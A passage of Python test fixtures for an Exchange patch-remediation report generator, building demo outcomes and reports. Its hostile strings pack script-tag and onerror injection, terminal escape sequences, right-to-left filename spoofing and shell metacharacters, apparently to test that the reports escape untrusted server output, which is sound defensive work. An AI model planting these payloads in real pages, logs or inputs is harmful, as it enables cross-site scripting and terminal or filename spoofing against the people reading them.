                                  maintenance_exited=None)
    return outcomes


def assessment_after(outcomes: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The re-assessment of a run: the patched servers at their new build, the rest as before."""
    after, patched = demo_before(), demo_after()
    for name, outcome in outcomes.items():
        if isinstance(outcome, dict) and outcome.get("state") == "patched" and name in patched:
            after[name] = patched[name]
    return after


def remediation_report(outcomes: dict[str, Any] | None = None, before: bool = True) -> dict[str, Any]:
    """report.json of the remediation run (demo_outcomes unless outcomes are given)."""
    outcomes = demo_outcomes() if outcomes is None else outcomes
    after = assessment_after(outcomes)
    remediation = summarise_remediation(after, demo_plan(), demo_before() if before else None, outcomes)
    return build_report(after, "2026-11-29T12:00:00Z", {"playbook": "playbooks/remediate.yml"}, remediation)


# What an outcome file written from a compromised server's output could carry in its free text.
HOSTILE_REASON = ('setup said <script>alert(1)</script>"><img src=x onerror=alert(2)>\x1b[31mRED\x1b[0m\x00NUL\x07'
                  " x\u202excod.aspx | `tick` [link](http://evil.example) & $x$ ]]>")
HOSTILE_SETUP_LOG = "C:\\ExchangeSetupLogs\\<script>alert(3)</script>\x1b]0;pwned\x07\x00\u202egol.exe|`x`.log"
HOSTILE_STEP = "cu</code><b>\x1b[1m"


def hostile_remediation_report() -> dict[str, Any]:
    """The remediation run where ex16-mitigated's outcome carries hostile text in reason, setup
    log and failed step, and the run's stopper is named in hostile text too."""
    outcomes = demo_outcomes()
    outcomes["ex16-mitigated"].update(reason=HOSTILE_REASON, setup_log=HOSTILE_SETUP_LOG, failed_step=HOSTILE_STEP)
    outcomes["edge01"]["reason"] = f"rollout stopped after {HOSTILE_REASON}"
    return remediation_report(outcomes)


def without_remediation(report: dict[str, Any]) -> dict[str, Any]:
    """The same report without a plan: what the assessment alone would have written."""
    report.pop("remediation", None)
    for host in report["hosts"].values():
        host.pop("remediation", None)
    return report
